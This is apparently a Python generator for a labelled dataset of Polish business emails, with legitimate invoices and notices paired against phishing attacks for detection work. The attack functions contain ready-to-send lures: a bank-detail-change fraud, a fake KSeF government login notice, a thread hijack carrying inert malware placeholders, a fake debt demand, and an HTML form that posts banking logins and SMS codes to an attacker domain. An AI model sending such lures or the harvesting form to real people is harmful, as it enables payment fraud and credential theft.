"""Polish messages: business 22-26, attacks 22-26."""
from registry import attack, business
from compose import compose, REGISTRY
from util import local_utc as L, rng, alnum, hexs
from world import S, BANK, TAX
import idnum as I
import senders as X
import assets as AS

F = I.fmt_iban
NIP = I.fmt_nip


def _crc8(data):
    crc = 0
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = ((crc << 1) ^ 0x07) & 0xFF if crc & 0x80 else (crc << 1) & 0xFF
    return crc


def ksef_number(nip, date, rnd):
    base = "%s-%s-%s" % (nip, date, rnd)
    return "%s-%02X" % (base, _crc8(base.encode()))


PLOG_FOOT = """Partner Logistik sp. z o.o.
ul. Składowa 12, 61-897 Poznań
tel. +48 61 852 40 17
NIP %s | KRS 0000418273 | kapitał zakładowy 250 000 zł""" % NIP(TAX["pl_log_nip"])

ZIEL_SIG = """Z poważaniem
Tadeusz Zieliński
Kierownik Działu Spedycji
Partner Logistik sp. z o.o.
ul. Składowa 12, 61-897 Poznań
tel. +48 61 852 40 23 | kom. +48 601 447 318"""

B24_TEXT = """Dzień dobry Panie Pawle,

potwierdzam awizację odbioru elementów wystawy "Miasto jutra" po zakończeniu targów:

Termin: poniedziałek 23.11.2026, godz. 7:00
Miejsce: ICE Kraków, ul. Marii Konopnickiej 17, rampa nr 2
Ładunek: 6 palet EUR (panele ekspozycyjne, makieta 1:500 w skrzyni), ok. 1,4 t
Pojazd: DAF XF z naczepą plandeką, nr rej. PO 7K418 / PO 3R922
Kierowca: Marek Nowicki, tel. 604 218 775

Dostawa do Państwa magazynu w Niepołomicach tego samego dnia do 12:00. W załączeniu list przewozowy CMR do wglądu - oryginał kierowca będzie miał przy sobie.

""" + ZIEL_SIG


# ====================================================================== business

@business(22, "pl", "partner-logistik-faktura-ksef-mpp",
          what="Partner Logistik's accounts department sends a VAT invoice (also issued in KSeF) for exhibition logistics, payment by split payment to the white-listed mBank account.",
          why="Genuine partner-logistik.pl via its home.pl hosting with Outlook; KSeF number quoted, payment in the split-payment mechanism to the account on the VAT white list, plain PDF visualisation.",
          pair="attack 22")
def b22():
    t = L("CE", 2026, 10, 7, 13, 41, 20)
    ks = ksef_number(TAX["pl_log_nip"], "20261007", "8A41C2F03B17")
    text = """Dzień dobry,

w załączeniu przesyłamy wizualizację faktury VAT nr FV/0912/10/2026 za usługi logistyczne (transport i rozładunek elementów stoiska, Targi Budownictwa Kraków, 01-05.10.2026).

Kwota brutto: 18 450,00 zł
Termin płatności: 28.10.2026
Numer KSeF: %s

Faktura ustrukturyzowana jest dostępna w KSeF. Płatność prosimy realizować w mechanizmie podzielonej płatności na rachunek:
mBank S.A. %s
(rachunek widnieje na białej liście podatników VAT).

Pozdrawiamy
Dział Księgowości

%s""" % (ks, F(BANK["pl_log"]), PLOG_FOOT)
    att = AS.pdf([
        "# Partner Logistik sp. z o.o.",
        "ul. Składowa 12, 61-897 Poznań - NIP " + NIP(TAX["pl_log_nip"]),
        "",
        "## Faktura VAT nr FV/0912/10/2026 (wizualizacja)",
        "Data wystawienia: 07.10.2026   Data sprzedaży: 05.10.2026   Numer KSeF: " + ks,
        "Nabywca: Example Group Polska sp. z o.o., ul. Lubicz 17, 31-503 Kraków, NIP " + NIP(TAX["eg_pl_nip"]),
        "",
        "1. Transport elementów stoiska Poznań - Kraków (2 kursy)   netto 9 800,00 zł   VAT 23%",
        "2. Rozładunek, wózek widłowy, obsługa rampy                 netto 5 200,00 zł   VAT 23%",
        "Razem netto 15 000,00 zł   VAT 3 450,00 zł   Brutto 18 450,00 zł",
        "Słownie: osiemnaście tysięcy czterysta pięćdziesiąt złotych 00/100",
        "Sposób płatności: przelew, mechanizm podzielonej płatności, termin 28.10.2026",
        "Rachunek: mBank S.A. " + F(BANK["pl_log"]),
    ], title="FV/0912/10/2026", author="Księgowość", producer="Comarch ERP Optima", creator="Comarch ERP Optima",
        date=AS.pdfdate(2026, 10, 7, 13, 30, "+02'00'"), latin2=True)
    return compose(X.partner_logistik(charset="iso-8859-2", pc="KSIEGOWOSC-01"),
                   ("Księgowość Partner Logistik", "ksiegowosc@partner-logistik.pl"), [S("acc_krk")],
                   "Faktura FV/0912/10/2026 - Partner Logistik sp. z o.o.", t, text, name="b22",
                   attachments=[("FV_0912_10_2026.pdf", "application/pdf", att)])


@business(23, "pl", "plotpol-faktura-ksef-wydruki",
          what="Print shop Plotpol sends the visualisation of a structured (KSeF) invoice for large-format competition boards to the Kraków office.",
          why="Known supplier on its own domain via OVH mail with Outlook; KSeF number quoted, the invoice is available in KSeF itself, no login link, payment to the supplier's usual Pekao account.",
          pair="attack 23")
def b23():
    t = L("CE", 2026, 11, 20, 12, 17, 46)
    ks = ksef_number(TAX["plotpol_nip"], "20261120", "1F7C9B40A2D5")
    text = """Dzień dobry Panie Pawle,

w załączeniu wizualizacja faktury FV 2026/11/0384 za wydruki plansz konkursowych (12 plansz B1 na piance PCV 5 mm, laminat matowy) odebranych 18.11.

Faktura została wystawiona w KSeF, numer KSeF: %s - jest już widoczna w Państwa systemie. Termin płatności 14 dni, rachunek bez zmian (Pekao S.A. %s).

Pozdrawiamy serdecznie
Anna Dudek
Plotpol Sp. z o.o. - druk wielkoformatowy
ul. Zabłocie 23, 30-701 Kraków
tel. 12 294 17 60""" % (ks, F(BANK["plotpol"]))
    att = AS.pdf([
        "# Plotpol Sp. z o.o. - druk wielkoformatowy",
        "ul. Zabłocie 23, 30-701 Kraków - NIP " + NIP(TAX["plotpol_nip"]),
        "## Faktura VAT FV 2026/11/0384 (wizualizacja dokumentu z KSeF)",
        "Numer KSeF: " + ks,
        "Nabywca: Example Group Polska sp. z o.o., ul. Lubicz 17, 31-503 Kraków",
        "Wydruk plansz B1 na piance PCV 5 mm, laminat matowy   12 szt.   x 95,00 zł = 1 140,00 zł netto",
        "VAT 23%: 262,20 zł   Razem brutto: 1 402,20 zł",
        "Termin płatności: 04.12.2026 - przelew - Pekao S.A. " + F(BANK["plotpol"]),
    ], title="FV 2026/11/0384", author="Plotpol", producer="inFakt", creator="inFakt",
        date=AS.pdfdate(2026, 11, 20, 12, 10), latin2=True)
    return compose(X.plotpol(charset="windows-1250"), ("Plotpol - Faktury", "faktury@plotpol.pl"), [S("mgr_krk")],
                   "Faktura FV 2026/11/0384 (KSeF) - wydruki plansz", t, text, name="b23", cc=[S("acc_krk")],
                   attachments=[("FV_2026_11_0384.pdf", "application/pdf", att)])


@business(24, "pl", "partner-logistik-awizacja-cmr",
          what="Partner Logistik's forwarding manager confirms the pick-up notice for exhibition elements with truck and driver details; CMR PDF attached.",
          why="Genuine sender from his usual Outlook desktop through home.pl; operational details, plain PDF, no password-protected archive, no urgency beyond the schedule.",
          pair="attack 24")
def b24():
    t = L("CE", 2026, 11, 19, 14, 8, 12)
    att = AS.pdf([
        "# CMR - List przewozowy / Frachtbrief / Consignment note",
        "Nr CMR: PL-PLG-2026-11-0877",
        "1. Nadawca: Example Group Polska sp. z o.o., ul. Lubicz 17, 31-503 Kraków",
        "2. Odbiorca: Example Group Polska sp. z o.o. - magazyn, ul. Przemysłowa 8, 32-005 Niepołomice",
        "3. Miejsce załadunku: ICE Kraków, ul. Marii Konopnickiej 17, 23.11.2026",
        "6-9. 6 palet EUR - panele ekspozycyjne, makieta 1:500 w skrzyni - 1 400 kg",
        "16. Przewoźnik: Partner Logistik sp. z o.o., Poznań - PO 7K418 / PO 3R922",
    ], title="CMR PL-PLG-2026-11-0877", author="Spedycja", producer="Comarch ERP Optima",
        creator="Comarch ERP Optima", date=AS.pdfdate(2026, 11, 19, 14, 1), latin2=True)
    return compose(X.partner_logistik(charset="iso-8859-2", cte="base64"),
                   ("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl"), [S("mgr_krk")],
                   "Awizacja odbioru - wystawa Miasto jutra, ICE Kraków, 23.11", t, B24_TEXT, name="b24",
                   attachments=[("CMR_PL-PLG-2026-11-0877.pdf", "application/pdf", att)])


@business(25, "pl", "prywatny-wp-zepsuty-laptop",
          what="Kraków office manager writes from his private WP.pl mailbox that his company laptop died after an update and asks a colleague to open a service-desk ticket.",
          why="Colleague on his real private mailbox via WP's own infrastructure; plausible hardware fault, asset tag and serial, asks for a ticket through the normal channel; no credentials, no payment, no links.")
def b25():
    t = L("CE", 2026, 11, 10, 20, 31, 7)
    text = """Cześć Gosia,

laptop mi padł po wieczornej aktualizacji - czarny ekran, dioda ładowania miga na pomarańczowo i nic więcej się nie dzieje. Piszę z prywatnej poczty, bo nie mam jak się zalogować do portalu.

Czy możesz jutro rano zgłosić to do helpdesku w Monachium? Dane:
Dell Latitude 7450, nr inwentarzowy EG-KRK-0117, numer seryjny 8QX2K74

Będę w biurze od 8:00, laptop przyniosę. Do tego czasu jestem pod telefonem.

Dzięki!
Paweł"""
    return compose(X.wp(), ("Paweł Wójcik", "pawel.wojcik82@wp.pl"), [S("acc_krk")],
                   "laptop się zepsuł - prośba o zgłoszenie", t, text, name="b25")


@business(26, "pl", "plotpol-ostateczne-wezwanie-do-zaplaty",
          what="Print shop Plotpol sends a final payment demand: external debt collection and stop of current orders if not paid within 7 days, plus the statutory EUR 40 compensation.",
          why="Known supplier from its own domain and OVH infrastructure; threatening but legitimate dunning (references earlier reminders and the statute), payment to the unchanged account, no attachment or link.",
          pair="attack 26")
def b26():
    t = L("CE", 2026, 12, 1, 9, 44, 30)
    text = """Szanowni Państwo,

pomimo wcześniejszych przypomnień z 15.11 i 25.11 nie odnotowaliśmy wpłaty za fakturę FV 2026/10/0311 z 12.10.2026 na kwotę 4 305,00 zł brutto (termin płatności minął 26.10.2026).

Wzywamy do zapłaty powyższej kwoty w terminie 7 dni od otrzymania niniejszego wezwania na rachunek Pekao S.A. %s.

W przypadku braku wpłaty sprawa zostanie przekazana do windykacji zewnętrznej, a realizacja bieżących zleceń (wydruki plansz na konkurs "Nowa Huta - Centrum") zostanie wstrzymana. Zgodnie z art. 10 ustawy o przeciwdziałaniu nadmiernym opóźnieniom w transakcjach handlowych naliczymy również rekompensatę w wysokości 40 euro oraz odsetki ustawowe za opóźnienie.

Jeżeli płatność została już dokonana, prosimy o przesłanie potwierdzenia przelewu.

Z poważaniem
Anna Dudek
Plotpol Sp. z o.o.""" % F(BANK["plotpol"])
    return compose(X.plotpol(charset="windows-1250"), ("Plotpol - Faktury", "faktury@plotpol.pl"), [S("acc_krk")],
                   "Ostateczne wezwanie do zapłaty - FV 2026/10/0311", t, text, name="b26", cc=[S("mgr_krk")])


# ====================================================================== attacks

@attack(22, "pl", "partner-logistik-zmiana-rachunku-lookalike",
        what="Logistics-partner bank-detail change: 'Partner Logistik - Księgowość' from partner-logistik.com.pl asks to pay two invoices to a new ING account, admits it is not yet on the VAT white list and asks to skip split payment.",
        why="Look-alike domain (.com.pl) on a Contabo VPS; new account 'not yet on the white list', explicit request to bypass the split-payment mechanism, pay open invoices now, confirm by reply - every Polish AP red flag (contrast business 22).",
        technique="BEC - logistics partner bank-detail change (look-alike domain)", infra="look-alike domain on Contabo VPS (Postfix, Outlook-style headers)",
        pair="business 22")
def a22():
    t = L("CE", 2026, 10, 21, 11, 2, 33)
    text = """Szanowni Państwo,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego, od dnia 21.10.2026 r. wszystkie płatności na rzecz Partner Logistik sp. z o.o. prosimy kierować wyłącznie na nowy rachunek:

ING Bank Śląski S.A.
%s

Rachunek został zgłoszony do Szefa KAS; jego pojawienie się w wykazie podatników VAT (tzw. biała lista) może potrwać do kilku dni roboczych.

Prosimy o uregulowanie na nowy rachunek faktur FV/0912/10/2026 (18 450,00 zł) oraz FV/0937/10/2026 (7 872,00 zł) z terminem płatności 28.10.2026, z pominięciem mechanizmu podzielonej płatności, ponieważ rachunek VAT jest w trakcie otwierania.

Prosimy o potwierdzenie zmiany w odpowiedzi na tę wiadomość.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Składowa 12, 61-897 Poznań
NIP %s""" % (F(BANK["pl_log_fake"]), NIP(TAX["pl_log_nip"]))
    p = X.vps("mail.partner-logistik.com.pl", "173.212.238.41", rdns="vmi2209931.contaboserver.net",
              charset="iso-8859-2", lang="pl")
    return compose(p, ("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.com.pl"), [S("acc_krk")],
                   "Zmiana rachunku bankowego - Partner Logistik sp. z o.o.", t, text, name="a22")


@attack(23, "pl", "ksef-token-wygasa-sendgrid",
        what="Fake KSeF (National e-Invoice System) notice: new structured invoices waiting, authentication token expires, log in via 'login.gov.pl / Profil Zaufany' - links go through SendGrid click tracking to a phishing page.",
        why="Ministry of Finance branding from a non-gov.pl domain via SendGrid; KSeF does not e-mail 'token expiry' login links; visible text shows ksef.podatki.gov.pl while the href is a tracking redirect; harvests Profil Zaufany/bank-login credentials.",
        technique="Credential phishing - e-invoicing system (KSeF) / government login", infra="Twilio SendGrid bulk ESP (abused account)",
        pair="business 23")
def a23():
    t = L("CE", 2026, 11, 23, 7, 45, 19)
    r = rng("a23")
    track = "https://u39128834.ct.sendgrid.net/ls/click?upn=u001.%s" % alnum(r, 90)
    text = """Krajowy System e-Faktur (KSeF)
Ministerstwo Finansów

W Krajowym Systemie e-Faktur zarejestrowano 3 nowe faktury ustrukturyzowane wystawione na NIP %s.

Ze względu na wygaśnięcie tokenu uwierzytelniającego Państwa podmiotu (data wygaśnięcia: 24.11.2026) odbiór faktur zostanie wstrzymany. Aby odnowić uprawnienia i pobrać faktury, zaloguj się przez login.gov.pl (Profil Zaufany, e-dowód lub bankowość elektroniczna):

https://ksef.podatki.gov.pl/odbior ( %s )

Brak odnowienia tokenu w terminie może skutkować niemożnością odliczenia VAT z nieodebranych faktur.

Wiadomość wygenerowana automatycznie - prosimy na nią nie odpowiadać.""" % (NIP(TAX["eg_pl_nip"]), track)
    html = """<!DOCTYPE html><html lang="pl"><head><meta charset="utf-8"></head>
<body style="margin:0;font-family:Lato,Arial,sans-serif;background:#f5f5f5">
<table width="620" align="center" cellpadding="0" cellspacing="0" style="background:#fff;margin-top:20px">
<tr><td style="padding:18px 30px;border-bottom:3px solid #dc143c"><b style="font-size:18px">Krajowy System e-Faktur</b><br><span style="font-size:12px;color:#666">Ministerstwo Finansów</span></td></tr>
<tr><td style="padding:26px 30px;font-size:15px;line-height:1.5;color:#1b1b1b">
<p>W Krajowym Systemie e-Faktur zarejestrowano <b>3 nowe faktury ustrukturyzowane</b> wystawione na NIP <b>%s</b>.</p>
<p>Ze względu na wygaśnięcie tokenu uwierzytelniającego Państwa podmiotu (data wygaśnięcia: <b>24.11.2026</b>) odbiór faktur zostanie wstrzymany. Aby odnowić uprawnienia i pobrać faktury, zaloguj się przez login.gov.pl (Profil Zaufany, e-dowód lub bankowość elektroniczna).</p>
<p style="text-align:center;margin:26px"><a href="%s" style="background:#0052a5;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold">Zaloguj się do KSeF</a></p>
<p style="font-size:13px;color:#555">https://ksef.podatki.gov.pl/odbior</p>
<p style="font-size:13px;color:#555">Brak odnowienia tokenu w terminie może skutkować niemożnością odliczenia VAT z nieodebranych faktur.</p></td></tr>
<tr><td style="padding:14px 30px;font-size:11px;color:#888;background:#fafafa">Wiadomość wygenerowana automatycznie - prosimy na nią nie odpowiadać.</td></tr>
</table><img src="https://u39128834.ct.sendgrid.net/wf/open?upn=u001.%s" width="1" height="1" alt=""></body></html>
""" % (NIP(TAX["eg_pl_nip"]), track, alnum(r, 60))
    p = X.sendgrid(bounce_domain="ksef-powiadomienia.com.pl")
    return compose(p, ("KSeF - Ministerstwo Finansów", "powiadomienia@ksef-powiadomienia.com.pl"), [S("acc_krk")],
                   "KSeF: nowe faktury do odbioru - token wygasa 24.11.2026", t, text, html, name="a23")


@attack(24, "pl", "thread-hijack-partner-logistik-zip-haslo",
        what="Thread hijack from the logistics partner's genuinely compromised mailbox: reply in the real pick-up thread with 'updated CMR and invoice correction' in a password-protected ZIP (password in the body) holding a .pdf.exe.",
        why="Real partner address and thread (business 24) but sent through the provider's webmail from a foreign VPN IP instead of his Outlook; password-protected archive with a double-extension executable, GDPR excuse, 'driver is waiting' pressure. Placeholder inert.",
        technique="Thread hijack from compromised partner mailbox -> malware in password-protected ZIP",
        infra="partner's genuine hosting (home.pl) webmail with stolen credentials", pair="business 24")
def a24():
    t = L("CE", 2026, 11, 24, 15, 52, 40)
    quoted = "\n".join("> " + l if l else ">" for l in B24_TEXT.split("\n"))
    text = """Dzień dobry Panie Pawle,

w nawiązaniu do naszej korespondencji przesyłam zaktualizowane dokumenty przewozowe (CMR i specyfikację palet) oraz korektę faktury za transport.

Ze względu na RODO pliki są zabezpieczone hasłem.
Hasło: PL2611

Proszę o weryfikację do końca dnia, kierowca czeka na potwierdzenie.

Pozdrawiam
Tadeusz Zieliński

W dniu 19.11.2026 o 14:08, Tadeusz Zieliński napisał(a):
""" + quoted
    z = AS.zip_placeholder("CMR_specyfikacja_palet_korekta_FV_1126.pdf.exe", password="PL2611", seed="a24",
                           date_time=(2026, 11, 24, 15, 40, 22))
    p = X.roundcube_hijack("cloudserver094114.home.pl", "poczta.home.pl", "185.107.56.213",
                           helo="cloudserver094114.home.pl", rdns="cloudserver094114.home.pl", ip="79.96.170.134")
    b24 = REGISTRY["b24"]
    return compose(p, ("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl"), [S("mgr_krk")],
                   "Re: Awizacja odbioru - wystawa Miasto jutra, ICE Kraków, 23.11", t, text, name="a24",
                   in_reply_to=b24, references=[b24],
                   attachments=[("Dokumenty_CMR_FV-korekta_1126.zip", "application/zip", z)])


@attack(25, "pl", "bank-ibiznes24-weryfikacja-html",
        what="Bank phishing: 'Santander Bank Polska - iBiznes24' demands re-verification of corporate banking users (AML/KYC) and attaches an HTML form asking for company ID, login, password and SMS code.",
        why="Bank notice from a compromised car-parts shop's mailbox; the HTML attachment is a local credential form posting to a non-bank domain (no script), threatens blocking of transfers; banks never collect passwords and SMS codes via attached forms.",
        technique="Credential phishing - corporate e-banking via HTML attachment form", infra="compromised small business mailbox on cPanel/Exim")
def a25():
    t = L("CE", 2026, 11, 12, 13, 5, 58)
    text = """Szanowni Państwo,

zgodnie z ustawą o przeciwdziałaniu praniu pieniędzy oraz finansowaniu terroryzmu prosimy o ponowną weryfikację danych użytkowników systemu iBiznes24 Państwa firmy do dnia 27.11.2026.

Brak weryfikacji spowoduje czasowe zablokowanie możliwości autoryzacji przelewów dla wszystkich użytkowników.

Formularz weryfikacyjny znajduje się w załączniku - prosimy otworzyć go w przeglądarce i uzupełnić dane.

Z poważaniem
Departament Bankowości Transakcyjnej
Santander Bank Polska S.A."""
    form = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="utf-8"><title>iBiznes24 - weryfikacja użytkownika</title>
<style>body{font-family:Arial,sans-serif;background:#f2f2f2;margin:0}.top{background:#ec0000;color:#fff;padding:14px 30px;font-size:20px;font-weight:bold}
.box{width:420px;margin:40px auto;background:#fff;padding:26px 30px;box-shadow:0 1px 4px rgba(0,0,0,.2)}label{display:block;font-size:13px;color:#444;margin-top:12px}
input{width:100%;padding:8px;border:1px solid #bbb;margin-top:4px;box-sizing:border-box}button{margin-top:20px;background:#ec0000;color:#fff;border:0;padding:11px 24px;font-size:15px}</style></head>
<body><div class="top">Santander &middot; iBiznes24</div>
<div class="box"><h3 style="margin-top:0">Weryfikacja użytkownika (KYC)</h3>
<p style="font-size:13px;color:#555">Wprowadź dane logowania do systemu iBiznes24 oraz kod SMS, aby potwierdzić uprawnienia użytkownika.</p>
<form method="post" action="https://ibiznes24-weryfikacja.net/kyc/verify.php">
<label>Identyfikator firmy<input name="firma" type="text"></label>
<label>Login użytkownika<input name="login" type="text"></label>
<label>Hasło<input name="haslo" type="password"></label>
<label>Kod SMS<input name="sms" type="text"></label>
<button type="submit">Potwierdź</button></form></div></body></html>
"""
    p = X.cpanel("s41.hostingpl-cloud.pl", "31.186.83.141", sender_ip="91.92.247.18",
                 auth_user="sklep@auto-czesci-nowak.pl", mailer="PHPMailer 6.5.0 (https://github.com/PHPMailer/PHPMailer)")
    return compose(p, ("Santander Bank Polska", "sklep@auto-czesci-nowak.pl"), [S("acc_krk")],
                   "iBiznes24: wymagana ponowna weryfikacja użytkowników (KYC)", t, text, name="a25",
                   attachments=[("iBiznes24_weryfikacja_KYC.html", "text/html", form.encode("utf-8"),
                                 {"ct_extra": '; charset="utf-8"'})])


@attack(26, "pl", "windykacja-wezwanie-zip-js-interia",
        what="Fake pre-court payment demand from a 'debt collection law office' on a free Interia mailbox, naming a real supplier as creditor, with a ZIP containing a .pdf.js file.",
        why="Debt collector on a free mailer, unsolicited, uses a real supplier's name (Plotpol) to look credible, three-day deadline, 'invoices' delivered as a script in a ZIP - malware delivery; the real supplier's dunning comes from plotpol.pl with no archive (business 26). Placeholder inert.",
        technique="Malware delivery - ZIP with JavaScript (fake debt-collection demand)", infra="INTERIA.PL free mailer",
        pair="business 26")
def a26():
    t = L("CE", 2026, 11, 27, 8, 22, 3)
    text = """Szanowni Państwo,

działając w imieniu i na rzecz wierzyciela - Plotpol Sp. z o.o. z siedzibą w Krakowie - wzywamy do zapłaty kwoty 12 418,55 zł wraz z odsetkami ustawowymi za opóźnienie w transakcjach handlowych, w terminie 3 dni od doręczenia niniejszego wezwania.

Szczegółowe zestawienie zadłużenia oraz kopie niezapłaconych faktur znajdują się w załączonym archiwum.

Brak zapłaty w wyznaczonym terminie spowoduje skierowanie sprawy na drogę postępowania sądowego (elektroniczne postępowanie upominawcze), co narazi Państwa na dodatkowe koszty sądowe i egzekucyjne oraz wpis do Krajowego Rejestru Długów.

Z poważaniem
Kancelaria Windykacyjna LEX-POL
Dział Windykacji Przedsądowej
sprawa nr WP/2026/11/4418"""
    z = AS.zip_placeholder("Wezwanie_WP-2026-11-4418_zestawienie_faktur.pdf.js", seed="a26",
                           date_time=(2026, 11, 27, 8, 11, 40))
    return compose(X.interia(cte="base64"), ("Kancelaria Windykacyjna LEX-POL", "lexpol.windykacja@interia.pl"),
                   [S("acc_krk")], "Przedsądowe wezwanie do zapłaty - sprawa nr WP/2026/11/4418", t, text, name="a26",
                   attachments=[("Wezwanie_WP-2026-11-4418.zip", "application/x-zip-compressed", z)])
